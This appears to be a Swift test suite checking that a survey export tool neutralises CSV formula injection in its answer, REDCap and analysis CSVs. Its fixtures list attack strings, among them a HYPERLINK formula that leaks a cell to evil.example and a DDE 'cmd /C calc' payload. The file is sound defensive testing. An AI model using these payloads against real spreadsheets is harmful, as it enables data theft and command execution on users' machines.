import ActiveTasks
@testable import Analysis
@testable import Export
import Foundation
import Testing
import TestSupport

/// OWASP's CSV injection: a participant's text that a spreadsheet would run as a formula is
/// written with a leading `'` in every CSV the tool writes; numbers stay numbers.
@Suite struct CSVInjectionTests {
    /// Text answers an attacker would type, and what each cell must read.
    private static let attacks: [(String, String)] = [
        ("=HYPERLINK(\"http://evil.example/?\"&A2,\"x\")", "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A2,\"\"x\"\")\""),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("-2+3", "'-2+3"),
        ("\tcalc", "'\tcalc"),
        ("\r=1", "\"'\r=1\""),
    ]

    @Test func aFieldThatASpreadsheetWouldRunIsLedByAQuoteAndANumberIsNot() {
        for (text, cell) in Self.attacks { #expect(CSVField.written(text) == cell, "\(text)") }
        for number in ["-2", "+3", "-1.5", "-.5", "-1e-05", "+2E+3", "0", "12"] { #expect(CSVField.written(number) == number) }
        for text in ["-", "-e5", "-1e", "--1", "-1.2.3", "-inf", "-1 ", "plain", "a=b"] {
            #expect(CSVField.written(text) == (text.first == "-" ? "'" + text : text), "\(text)")
        }
    }

    @Test func answersCSVNeutralisesFormulaTextAndKeepsANegativeNumber() throws {
        var answers = Self.attacks.enumerated().map { AnswerResult(identifier: "t\($0.offset)", answerType: "text", value: .text($0.element.0)) }
        answers.append(AnswerResult(identifier: "n", answerType: "integer", value: .integer(-2)))
        answers.append(AnswerResult(identifier: "d", answerType: "decimal", value: .decimal(-1.5)))
        let run = try RunFolder(surveyResult([questionStep("form", answers, type: "form")]))
        let output = try TemporaryDirectory(prefix: "csv-injection")
        let destination = try ExportDestination(output.url.appendingPathComponent("csv"), isFolder: true, run: run.open())
        _ = try CSVExport.write(run.open(), to: destination)
        let text = try String(contentsOf: destination.folder.appendingPathComponent("answers.csv"), encoding: .utf8)
        for (_, cell) in Self.attacks { #expect(text.contains(",text," + cell + ","), "\(cell)") }
        #expect(text.contains(",integer,-2,") && text.contains(",decimal,-1.5,"))
    }

    @Test func theREDCapCSVNeutralisesFormulaText() throws {
        let answers = [AnswerResult(identifier: "note", answerType: "text", value: .text("=1+1")),
                       AnswerResult(identifier: "score", answerType: "integer", value: .integer(-2))]
        var result = surveyResult([questionStep("form", answers, type: "form")])
        result.participantIdentifier = "@P1"
        let record = try REDCapRecord(run: RunFolder(result).open(), analysis: [], study: REDCapStudy())
        let folder = try TemporaryDirectory(prefix: "csv-injection-redcap")
        let output = folder.url.appendingPathComponent("records.csv")
        let file = try OutputFile(url: output, replacing: false)
        _ = try REDCapImportFile.write([record], recordIDField: "study_id", to: file)
        try file.commit()
        let row = try String(contentsOf: output, encoding: .utf8).components(separatedBy: "\r\n")[1]
        #expect(row.hasPrefix("'@P1,") && row.contains(",'=1+1,") && row.contains(",-2,"), "\(row)")
    }

    @Test func theAnalysisCSVNeutralisesFormulaText() {
        let csv = AnalysisReportWriter.csv([AnalysisEntry(path: "=run", participant: "+P1", kind: nil, summary: nil, error: "-oops")])
        // The entry's row is under the header and the units row.
        #expect(csv.components(separatedBy: "\n")[2].hasPrefix("'=run,,,'+P1,,,,'-oops,"), "\(csv)")
    }
}
